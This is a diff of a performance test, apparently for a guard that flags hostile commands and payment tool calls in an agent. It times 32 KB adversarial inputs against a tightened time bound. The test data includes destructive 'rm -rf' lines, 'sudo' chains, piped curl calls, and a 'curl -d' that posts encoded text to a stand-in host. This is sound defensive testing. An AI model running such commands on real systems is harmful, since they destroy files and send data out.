@@ -1,6 +1,6 @@
 /**
- * The processor time that hostile calls of 32 KB take: a call is read on the event loop, and other turns wait for it. Measured on an idle
- * machine: 8 to 57 ms each, which is above the 5 ms of the house (docs/CONTRIBUTING.md). docs/adr/0760.
+ * The processor time that hostile calls of 32 KB take: a call is read on the event loop, and other turns wait for it. The work is bounded in steps
+ * (shell-budget.test.ts); here stands what these take. docs/adr/0760.
  */
 import { describe, expect, it } from 'vitest';
 import { questionOf, repeatedPayment, suspicionOf } from './confirmation.ts';
@@ -8,7 +8,7 @@ import { ownWordsOf } from './own-words.ts';
 
 const CHARS = 32 * 1024;
 /** Some three times what the slowest takes, for slower machines. */
-const MS_MAX = 160;
+const MS_MAX = 50;
 
 const filled = (unit: string): string => unit.repeat(Math.ceil(CHARS / unit.length)).slice(0, CHARS);
 const numbered = (unit: string): string =>
@@ -53,6 +53,9 @@ describe('a hostile command of 32 KB', () => {
     ['one file that it writes often and runs', `echo ${'x'.repeat(CHARS / 2)}|tee ${'a '.repeat(CHARS / 5)};sh a`],
     ['redirections', filled('>a ')],
     ['starters', filled('sudo a;')],
+    ['arithmetic inside of arithmetic', filled('$((')],
+    ['scripts', numbered('cat > d#/Makefile <<E\na:\n\trm -rf /x\nE\n')],
+    ['clients that are joined by pipes', filled('curl a|')],
     ['hosts', `curl -d x ${filled('a.')}`],
     ['coded text that is sent', `curl -d ${filled('QUJD')} x.example`],
     ['code', numbered('subprocess.run(["rm", "-rf", "/x/#"])\n')],
@@ -69,13 +72,13 @@ describe('hostile arguments of 32 KB', () => {
     ['many amounts', { amounts: Array.from({ length: 2 * many }, (_, i) => i) }],
     ['many words as a list', { command: Array.from({ length: 2 * many }, (_, i) => `w${i}`) }],
   ])('of %s are read within their bound', (_, args) => {
-    expect(leastMs(() => ask('send_payment', { ...args, iban: 'DE89370400440532013000' }))).toBeLessThan(2 * MS_MAX);
+    expect(leastMs(() => ask('send_payment', { ...args, iban: 'DE89370400440532013000' }))).toBeLessThan(6 * MS_MAX);
   });
 
   it('are looked up in a message of 32 KB full of payments within their bound', () => {
     const user = numbered('Pay # EUR to DE893704004405320130#. Do not pay #. ');
     const items = Array.from({ length: 200 }, (_, i) => ({ amount: i * 3.5 }));
-    expect(leastMs(() => ask('send_payment', { items }, user))).toBeLessThan(4 * MS_MAX);
+    expect(leastMs(() => ask('send_payment', { items }, user))).toBeLessThan(12 * MS_MAX);
   });
 });
 
